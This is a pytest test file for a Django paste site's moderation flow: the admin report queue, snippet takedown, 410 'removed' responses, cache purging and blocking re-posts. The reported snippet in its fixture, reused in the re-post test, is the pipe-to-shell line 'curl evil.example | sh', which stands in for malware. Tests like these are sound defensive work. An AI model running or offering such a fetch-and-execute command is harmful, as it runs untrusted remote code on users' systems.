"""Taking a snippet down: the admins' queue of reports, its two actions, and what a removed
snippet answers afterwards — ``410`` "removed" wherever its content could leak, its content
gone from the database, and no cache serving it again.
"""

import secrets
import subprocess
import sys

import pytest
from django.apps import apps
from django.core.cache import cache
from django.core.cache.backends.redis import RedisCache
from werkzeug.test import Client

from apps.byteslru import BytesLRU
from apps.snippets import catalog, highlighting, takedown
from apps.snippets.models import Report, Snippet
from tests import servers
from tests.snippets.conftest import csrf_token

pytestmark = pytest.mark.django_db

QUEUE = "/admin/snippets/report/"


def report(client, snippet_id, reason="spam", text="", address="192.0.2.1"):
    response = client.post(f"/api/snippets/{snippet_id}/report", json={"reason": reason, "text": text},
                           environ_base={"REMOTE_ADDR": address})
    assert response.status_code == 201, response.get_data(as_text=True)
    return response.get_json()["id"]


@pytest.fixture
def admin_client(site, admin_user):
    """A browser of the whole site, logged in to the admin as a superuser (through its login form).

    Not Django's test client: it hooks Django's connection-closing signals back on, which
    closes the test's PostgreSQL transaction under the next request through the site.
    """
    browser = Client(site)
    login = browser.post("/admin/login/", data={
        "csrfmiddlewaretoken": csrf_token(browser, "/admin/login/"), "username": admin_user.username,
        "password": "password", "next": QUEUE,
    })
    assert login.status_code == 302, login.get_data(as_text=True)
    return browser


def text(response):
    return response.get_data(as_text=True)


def act(admin_client, action, *ids, changelist=QUEUE):
    fields = {"csrfmiddlewaretoken": csrf_token(admin_client, changelist), "action": action,
              "_selected_action": [str(pk) for pk in ids]}
    return admin_client.post(changelist, data=fields, follow_redirects=True)


@pytest.fixture
def reported(client, paste):
    """A fork whose parent was reported twice (by two people) for malware."""
    parent = paste("curl evil.example | sh\n", title="Installer", filename="install.sh")
    child = client.post("/api/snippets", json={"content": "echo safe\n"}).get_json()
    Snippet.objects.filter(pk=child["id"]).update(parent_id=parent["id"])
    first = report(client, parent["id"], "malware", "runs a remote script")
    second = report(client, parent["id"], "malware", address="192.0.2.9")
    return parent["id"], child["id"], (first, second)


# The queue


def test_the_queue_shows_open_reports_newest_first_with_the_snippet_and_its_count(admin_client, client, reported):
    parent_id, _, (first, second) = reported
    other = client.post("/api/snippets", json={"content": "hello\n"}).get_json()["id"]
    closed = report(client, other, "other", "meh")
    Report.objects.filter(pk=closed).update(status=Report.DISMISSED)
    page = text(admin_client.get(QUEUE))
    assert "runs a remote script" in page and "Malware or phishing" in page
    assert f'href="/s/{parent_id}"' in page
    assert "meh" not in page  # dismissed: not in the queue by default
    assert page.index(f'/admin/snippets/report/{second}/') < page.index(f'/admin/snippets/report/{first}/')
    assert '<td class="field-reports_of_snippet">2</td>' in page
    assert '<td class="field-reporters">2</td>' in page
    assert "meh" in text(admin_client.get(QUEUE + "?status=all"))


def test_the_queue_is_for_admins_only(client, reported):
    response = client.get(QUEUE)
    assert response.status_code == 302 and "/admin/login/" in response.headers["Location"]


def test_dismiss_closes_the_reports_and_keeps_the_snippet(admin_client, admin_user, client, reported):
    parent_id, _, reports = reported
    assert act(admin_client, "dismiss", *reports).status_code == 200
    assert set(Report.objects.values_list("status", "handled_by")) == {(Report.DISMISSED, admin_user.pk)}
    assert client.get(f"/s/{parent_id}/raw").status_code == 200
    assert "runs a remote script" not in text(admin_client.get(QUEUE))


def test_take_down_removes_the_snippet_and_records_who_when_and_why(admin_client, admin_user, reported):
    parent_id, _, (first, _) = reported
    response = act(admin_client, "take_down", first)  # one report is enough to act on its snippet
    assert "1 snippet(s) removed" in text(response)
    snippet = Snippet.objects.get(pk=parent_id)
    assert snippet.removed_at is not None and snippet.removed_by == admin_user
    assert snippet.removed_reason == "malware"
    assert set(Report.objects.values_list("status", flat=True)) == {Report.ACTIONED}  # both reports closed


def test_take_down_from_the_snippet_list_too(admin_client, paste):
    snippet = paste()
    act(admin_client, "take_down", snippet["id"], changelist="/admin/snippets/snippet/")
    assert Snippet.objects.get(pk=snippet["id"]).removed_reason == "other"


# What a removed snippet answers


@pytest.fixture
def removed(reported, admin_user):
    parent_id, child_id, _ = reported
    assert takedown.remove(parent_id, "malware", admin_user)
    return parent_id, child_id


def test_its_content_is_gone_from_the_database_but_its_id_and_reason_stay(removed):
    parent_id, _ = removed
    row = Snippet.objects.get(pk=parent_id)
    assert (row.content, row.title, row.filename, row.lexer, row.delete_token_hash) == ("", "", "", "", "")
    assert row.sha256 and row.removed_reason == "malware"
    assert row.expires_at is None  # the cleanup never deletes it, so its id is never free again


@pytest.mark.parametrize("path", ["/s/{id}", "/s/{id}/raw", "/s/{id}/download", "/s/{id}/fork", "/s/{id}/delete",
                                  "/s/{id}/report"])
def test_every_page_answers_410_removed(client, removed, path):
    response = client.get(path.format(id=removed[0]))
    assert response.status_code == 410
    text = response.get_data(as_text=True)
    assert "This snippet was removed" in text and "malware or phishing" in text
    assert "curl evil.example" not in text and "Installer" not in text


def test_a_browser_revalidating_its_copy_of_raw_gets_410_not_304(client, removed):
    old_etag = f'"{Snippet.objects.get(pk=removed[0]).sha256}"'  # the digest is kept, so the ETag would match
    response = client.get(f"/s/{removed[0]}/raw", headers={"If-None-Match": old_etag})
    assert response.status_code == 410


def test_its_admin_page_is_the_record_of_its_removal_and_cannot_be_edited(admin_client, admin_user, removed):
    page = text(admin_client.get(f"/admin/snippets/snippet/{removed[0]}/change/"))
    assert 'name="content"' not in page and "Malware or phishing" in page
    row = Snippet.objects.get(pk=removed[0])
    digest = row.sha256
    row.save()  # saving what is left keeps the digest of the removed text
    assert Snippet.objects.get(pk=removed[0]).sha256 == digest


def test_the_api_answers_410_removed(client, removed):
    for response in (
        client.get(f"/api/snippets/{removed[0]}"),
        client.delete(f"/api/snippets/{removed[0]}", headers={"Authorization": "Token anything"}),
        client.post(f"/api/snippets/{removed[0]}/report", json={"reason": "spam"}),
    ):
        assert response.status_code == 410
        assert response.get_json()["error"]["code"] == "removed"
        assert response.get_json()["error"]["reason"] == "malware"


def test_another_app_fetching_raw_gets_json_removed(client, removed):
    response = client.get(f"/s/{removed[0]}/raw", headers={"X-Composite-Fetch": "diffviewer"})
    assert response.status_code == 410
    assert response.get_json()["error"]["code"] == "removed"


def test_another_app_fetching_an_expired_snippet_gets_json_gone(client, paste):
    snippet = paste()
    Snippet.objects.filter(pk=snippet["id"]).update(expires_at="2000-01-01T00:00:00Z")
    response = client.get(f"/s/{snippet['id']}/raw", headers={"X-Composite-Fetch": "diffviewer"})
    assert response.status_code == 410 and response.get_json()["error"]["code"] == "gone"


def test_its_forks_page_offers_no_compare_with_the_removed_parent(client, removed):
    parent_id, child_id = removed
    page = client.get(f"/s/{child_id}").get_data(as_text=True)
    assert "compare with parent" not in page and f"/s/{parent_id}" not in page


def test_the_diff_viewers_compare_by_reference_says_removed_and_why_without_the_text(client, removed):
    """The paste site answers the diff viewer's fetch 410 removed (JSON, with the reason); the
    diff viewer says so, with the same status."""
    parent_id, child_id = removed
    response = client.get(f"/diff/compare?left=/s/{parent_id}/raw&right=/s/{child_id}/raw")
    text = response.get_data(as_text=True)
    assert response.status_code == 410
    assert "The left snippet cannot be compared." in text and "removed" in text
    assert "malware" in text  # the reason the site gave
    assert "curl evil.example" not in text


def test_the_same_text_cannot_be_posted_again(client, post_form, removed):
    again = client.post("/api/snippets", json={"content": "curl evil.example | sh\n"})
    assert again.status_code == 422 and again.get_json()["error"]["code"] == "removed_content"
    form = post_form("/", content="curl evil.example | sh\n", expires="never", lexer="auto")
    assert form.status_code == 400 and "cannot be posted again" in form.get_data(as_text=True)
    assert client.post("/api/snippets", json={"content": "curl evil.example | sh  \n"}).status_code == 201


def test_it_is_listed_nowhere(client, removed):
    parent_id, _ = removed
    assert parent_id not in client.get("/mine").get_data(as_text=True)


# Caches


def test_no_cache_serves_it_again_in_this_process_or_another(client, paste, admin_user, fake_highlighter):
    """Its page and rendering are dropped here; and a page or rendering another process still
    holds is never used, because every view asks the database first."""
    snippet = paste("print('do not keep me')\n")
    environ = {"wsgi.url_scheme": "http", "SERVER_NAME": "localhost", "SERVER_PORT": "80"}
    assert "do not keep me" in client.get(f"/s/{snippet['id']}").get_data(as_text=True)  # cached now
    pages = apps.get_app_config("snippets").pages
    row = Snippet.objects.get(pk=snippet["id"])
    key = highlighting.cache_key(row, catalog.current(environ).version)
    assert any(k[0] == snippet["id"] for k in pages.keys()) and cache.get(key) is not None
    kept_key = next(k for k in pages.keys() if k[0] == snippet["id"])
    kept_page = BytesLRU.get(pages, kept_key)  # kept_key is as stored (already compact)
    kept_rendering = cache.get(key)

    takedown.remove(snippet["id"], "spam", admin_user, environ)
    assert not any(k[0] == snippet["id"] for k in pages.keys())
    assert cache.get(key) is None

    # As if another process (or a Redis shared by it) still held them.
    BytesLRU.put(pages, kept_key, kept_page)
    cache.set(key, kept_rendering)
    asked = fake_highlighter.highlights
    response = client.get(f"/s/{snippet['id']}")
    assert response.status_code == 410 and "do not keep me" not in response.get_data(as_text=True)
    assert fake_highlighter.highlights == asked


def test_removing_twice_is_harmless(admin_user, removed):
    assert takedown.remove(removed[0], "spam", admin_user) is False
    assert Snippet.objects.get(pk=removed[0]).removed_reason == "malware"


@pytest.fixture
def redis_cache(settings):
    """The site's cache in a real Redis (as with REDIS_URL), on a database of its own."""
    redis = pytest.importorskip("redis")
    url = "redis://127.0.0.1:6379/15"
    try:
        redis.Redis.from_url(url, socket_connect_timeout=0.5).ping()
    except redis.RedisError:
        pytest.skip("no Redis on 127.0.0.1:6379")
    prefix = f"takedown-test-{secrets.token_hex(4)}"
    settings.CACHES = {"default": {"BACKEND": "django.core.cache.backends.redis.RedisCache", "LOCATION": url,
                                   "KEY_PREFIX": prefix}}
    yield RedisCache(url, {"KEY_PREFIX": prefix})  # another process's view of the same Redis
    cache.clear()  # this test's database only


def test_with_redis_its_rendering_is_dropped_for_every_process(client, paste, admin_user, fake_highlighter,
                                                               redis_cache):
    snippet = paste("print('shared')\n")  # rendered at creation, into Redis
    row = Snippet.objects.get(pk=snippet["id"])
    environ = {"wsgi.url_scheme": "http", "SERVER_NAME": "localhost", "SERVER_PORT": "80"}
    key = highlighting.cache_key(row, catalog.current(environ).version)
    other_process = redis_cache
    assert other_process.get(key) is not None

    takedown.remove(snippet["id"], "spam", admin_user, environ)
    assert other_process.get(key) is None


def test_a_site_with_a_removed_snippet_can_still_be_copied_to_another_database(tmp_path):
    """``copy_database`` checks each content against its SHA-256; a removed one has no content
    left but keeps its digest, and is copied as it is (removed, with its reason)."""
    env = servers.site_environment(tmp_path / "site")
    env.pop("DATABASE_URL", None)
    servers.migrate(env)
    fill = ("from apps.snippets.models import Snippet, Report; from apps.snippets import takedown; "
            "s = Snippet.objects.create(content='bad'); Report.objects.create(snippet=s, reason='spam'); "
            "takedown.remove(s.pk, 'spam', None); Snippet.objects.create(content='good')")
    manage = [sys.executable, "manage.py"]
    subprocess.run([*manage, "shell", "-c", fill], cwd=servers.ROOT, env=env, check=True, capture_output=True)
    target = f"sqlite:///{tmp_path / 'copy.sqlite3'}"
    done = subprocess.run([*manage, "copy_database", target], check=False, cwd=servers.ROOT, env=env,
                          capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    assert "snippets.Report: 1 rows verified" in done.stdout
    assert "1 file contents verified" in done.stdout
